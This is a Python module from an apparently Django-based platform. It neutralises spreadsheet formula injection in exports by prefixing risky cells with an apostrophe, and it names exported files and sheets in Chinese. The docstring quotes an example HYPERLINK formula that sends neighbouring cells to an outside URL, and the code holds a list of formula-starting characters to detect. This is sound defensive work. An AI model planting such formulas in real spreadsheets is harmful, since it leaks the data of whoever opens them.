"""Spreadsheets the platform hands out carry text, never formulas (CSV/formula injection).

Much of what the exports contain was typed by someone else: a voter's opinion
from the public form, a unit's reply, a deputy's notes. Text that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is what Excel (or another
spreadsheet, or the same sheet saved as CSV and opened again) may run as a
formula: ``=HYPERLINK("http://…?"&A1)`` sends the neighbouring cells away on a
click. Every export goes through here and such a cell gets a leading ``'``, the
mark spreadsheets themselves use for "text, not a formula". Numbers, dates and
other text are left as they are.

- ``SafeXLSX``: the .xlsx format of every admin export (django-import-export);
  its own ``IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT`` only drops one leading
  ``=`` and turns every cell, numbers too, into text.
- ``xlsx(dataset)``: the same for a workbook built by hand (tablib).

Every spreadsheet is named in the reader's language, file and sheet alike
(建议台账-2026-12-05.xlsx with its sheet 建议台账, never "Suggestion-…" with a sheet
"Tablib Dataset"): ``NamedExportMixin`` for the admin's exports, ``xlsx_response``
for the pages that build their own.
"""

from __future__ import annotations

import re

import tablib
from django.http import HttpResponse
from django.utils import timezone
from django.utils.html import format_html
from django.utils.http import content_disposition_header
from django.utils.text import capfirst
from import_export.formats.base_formats import XLSX
from import_export.forms import SelectableFieldsExportForm

from congress.language import chinese

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """A cell's value as a spreadsheet may safely open it: text starting like a formula gets a leading '."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralised(dataset: tablib.Dataset) -> tablib.Dataset:
    """A copy of ``dataset`` with every cell (and header) neutralised."""
    safe = tablib.Dataset(title=dataset.title)
    if dataset.headers:
        safe.headers = [neutralise(header) for header in dataset.headers]
    for row in dataset:
        safe.append([neutralise(value) for value in row])
    return safe


def xlsx(dataset: tablib.Dataset) -> bytes:
    """``dataset`` as an .xlsx workbook, neutralised."""
    return neutralised(dataset).export("xlsx")


class SafeXLSX(XLSX):
    """django-import-export's .xlsx format, neutralising every cell it writes."""

    def export_data(self, dataset, **kwargs):
        return super().export_data(neutralised(dataset), **kwargs)


# --- names ---------------------------------------------------------------------------------------

# Excel refuses these in a sheet's name and cuts it at 31 characters.
NOT_IN_SHEET_NAMES = re.compile(r"[\[\]:*?/\\]")


def sheet_title(name) -> str:
    return NOT_IN_SHEET_NAMES.sub("", str(name))[:31]


def dated_filename(name, extension: str = "xlsx", day=None) -> str:
    """建议台账-2026-12-05.xlsx: the name, the day (today by default) and the extension."""
    day = day or timezone.localdate()
    return f"{name}-{day:%Y-%m-%d}.{extension}"


def attachment(filename: str) -> str:
    """Content-Disposition for a download named in Chinese: RFC 5987 ``filename*`` and an ASCII ``filename``."""
    from congress.word_layout import ascii_fallback

    encoded = content_disposition_header(True, filename)
    if "filename*=" in encoded:
        encoded = f'attachment; filename="{ascii_fallback(filename)}"; {encoded.removeprefix("attachment; ")}'
    return encoded


def xlsx_response(content: bytes, filename: str) -> HttpResponse:
    response = HttpResponse(content, content_type=XLSX_TYPE)
    response["Content-Disposition"] = attachment(filename)
    return response


class ColumnsExportForm(SelectableFieldsExportForm):
    """The export page's column boxes labelled by the sheet's own headers (编号, not "Number (编号)")."""

    def _get_field_label(self, resource, field_name: str) -> str:
        field = resource.fields.get(field_name)
        label = str(field.column_name) if field is not None and field.column_name else field_name
        # The sheet's headers are Chinese in every language: marked so on an English page.
        return label if chinese() else format_html('<span lang="zh-Hans">{}</span>', label)


class NamedExportMixin:
    """An admin export named in the reader's language: ``export_name`` (the model's plural name
    by default) names the file, with the day, and its sheet."""

    export_form_class = ColumnsExportForm
    export_name = None

    def get_export_name(self) -> str:
        return capfirst(str(self.export_name or self.model._meta.verbose_name_plural))

    def get_export_filename(self, request, queryset, file_format):
        return dated_filename(self.get_export_name(), file_format.get_extension())

    def get_data_for_export(self, request, queryset, **kwargs):
        data = super().get_data_for_export(request, queryset, **kwargs)
        data.title = sheet_title(self.get_export_name())
        return data

    def _do_file_export(self, file_format, request, queryset, export_form=None):
        response = super()._do_file_export(file_format, request, queryset, export_form=export_form)
        response["Content-Disposition"] = attachment(self.get_export_filename(request, queryset, file_format))
        return response
